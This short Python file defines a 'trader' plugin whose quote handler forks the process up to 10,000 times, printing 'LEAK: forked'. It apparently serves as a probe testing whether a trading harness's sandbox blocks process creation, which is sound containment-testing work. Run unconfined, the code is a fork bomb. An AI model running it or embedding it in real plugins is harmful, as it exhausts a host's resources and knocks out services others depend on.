import os


class Trader:
    def on_quote(self, market, portfolio):
        for _ in range(10_000):
            try:
                os.fork()
                print("LEAK: forked")
            except PermissionError:
                pass


def build_trader(universe):
    return Trader()
